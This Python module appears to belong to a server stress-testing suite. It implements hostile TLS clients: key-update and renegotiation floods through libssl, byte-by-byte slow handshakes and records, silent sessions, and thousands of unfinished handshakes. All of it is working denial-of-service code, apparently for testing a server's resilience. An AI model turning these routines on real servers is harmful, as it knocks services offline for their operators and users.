"""What hostile TLS clients do below HTTP: as in attacks.py, on a connection in cleartext, which they
speak TLS on by themselves.
"""
import ctypes
import ctypes.util
import socket
import ssl
import time


class Records:
    """A client's end of a session whose records are there to be sent as one likes."""

    def __init__(self, protocol="h2"):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        self.received, self.made = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.session = context.wrap_bio(self.received, self.made, server_hostname="localhost")

    def hello(self):
        """The first flight."""
        try:
            self.session.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return self.made.read()

    def shake(self, sock):
        """The whole of the handshake."""
        sock.settimeout(60)
        sock.sendall(self.hello())
        while True:
            try:
                self.session.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = sock.recv(1 << 16)
                if not data:
                    raise ConnectionResetError from None
                self.received.write(data)
        sock.sendall(self.made.read())
        return self

    def record(self, data):
        self.session.write(data)
        return self.made.read()


def openssl(version):
    """libssl itself: Python has no key updates and no renegotiation."""
    lib = ctypes.CDLL(ctypes.util.find_library("ssl"))
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(lib, name).restype = ctypes.c_void_p
    context = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
    for control in (123, 124):  # SSL_CTRL_SET_MIN_PROTO_VERSION, ..._MAX_...
        lib.SSL_CTX_ctrl(context, control, ctypes.c_long(version), None)
    return lib, context, ctypes.c_void_p(lib.SSL_new(context))


def on_session(version, step):
    """step(lib, session) again and again, until it says no."""
    def attack(connection, until=None):
        lib, context, session = openssl(version)
        connection.sock.settimeout(None)
        connection.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        lib.SSL_set_fd(session, connection.sock.fileno())
        if lib.SSL_connect(session) == 1:
            while (until is None or time.monotonic() < until) and step(lib, session):
                connection.sent += 27
        lib.SSL_free(session)
        lib.SSL_CTX_free(context)
        connection.ended = has_ended(connection.sock, until)
    return attack


def has_ended(sock, until):
    """Whether the other side has ended it; behind `until`, that is not waited for."""
    sock.settimeout(60 if until is None else max(0.01, until - time.monotonic()))
    try:
        while sock.recv(1 << 16):
            pass
    except TimeoutError:
        return False
    except OSError:
        pass
    return True


def key_update(lib, session):
    return lib.SSL_key_update(session, 0) == 1 and lib.SSL_do_handshake(session) == 1


def key_update_requested(lib, session):
    return lib.SSL_key_update(session, 1) == 1 and lib.SSL_do_handshake(session) == 1


def renegotiation(lib, session):
    return lib.SSL_renegotiate(session) == 1 and lib.SSL_do_handshake(session) == 1


def hello_alone(connection, until=None):
    """The server signs, and nobody looks at it."""
    connection.push(Records().hello(), until=until)
    connection.finish(0.02)


def unfinished_handshakes(connection, until=None, count=4000):
    """On many connections."""
    port, source = connection.sock.getpeername()[1], connection.sock.getsockname()[0]
    hello, kept = Records().hello(), []
    try:
        for _ in range(count):
            if until and time.monotonic() > until:
                break
            kept.append(socket.create_connection(("127.0.0.1", port), 60, (source, 0)))
            kept[-1].sendall(hello)
        connection.finish(30 if until is None else max(0, until - time.monotonic()))
    finally:
        for sock in kept:
            sock.close()


def handshake(connection, until=None):
    Records().shake(connection.sock)


def drip(head, piece, pause=0.05):
    """head(sock): what begins it; then a byte of piece(it) at a time."""
    def attack(connection, until=None):
        until = until or time.monotonic() + 30
        rest = piece(head(connection.sock))
        for i in range(len(rest)):
            if time.monotonic() > until or not connection.push(rest[i:i + 1], until=until) or \
                    connection.finish(pause):
                return
        connection.finish(max(0, until - time.monotonic()))
    return attack


TLS13, TLS12 = 0x304, 0x303
# Each is cut off.
TLS_FLOODS = {
    "tls-key-update": on_session(TLS13, key_update),
    "tls-key-update-requested": on_session(TLS13, key_update_requested),
    "tls-renegotiation": on_session(TLS12, renegotiation),
}
TLS_SLOW = {
    "tls-slow-hello": drip(lambda sock: Records(), lambda records: records.hello()),
    "tls-slow-record": drip(lambda sock: Records("http/1.1").shake(sock),
                            lambda records: records.record(b"GET / HTTP/1.1\r\n" * 500)),
    "tls-silent": drip(lambda sock: Records().shake(sock), lambda records: b""),
}
# On one connection they are none.
TLS_AGAIN = {
    "tls-hello-alone": hello_alone,
    "tls-handshakes": handshake,
    "tls-unfinished": unfinished_handshakes,
}
